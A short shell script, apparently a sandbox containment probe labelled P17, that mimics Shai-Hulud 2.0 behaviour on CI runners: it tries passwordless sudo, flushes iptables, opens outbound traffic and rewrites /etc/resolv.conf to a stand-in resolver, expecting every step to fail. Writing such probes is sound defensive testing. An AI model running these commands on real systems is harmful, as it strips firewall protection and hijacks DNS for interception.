#!/bin/sh
# P17 in plain shell, like Shai-Hulud 2.0 on GitHub runners (passwordless sudo): try root without a
# password, flush the firewall, point DNS at a resolver of our own. Every step fails in the sandbox
# (no sudo, no iptables, read-only /etc) — the attempts are the evidence.
sudo -n true 2>/dev/null && sudo -n iptables -F 2>/dev/null
iptables -P OUTPUT ACCEPT 2>/dev/null
echo 'nameserver 198.51.100.53' > /etc/resolv.conf 2>/dev/null
exit 0
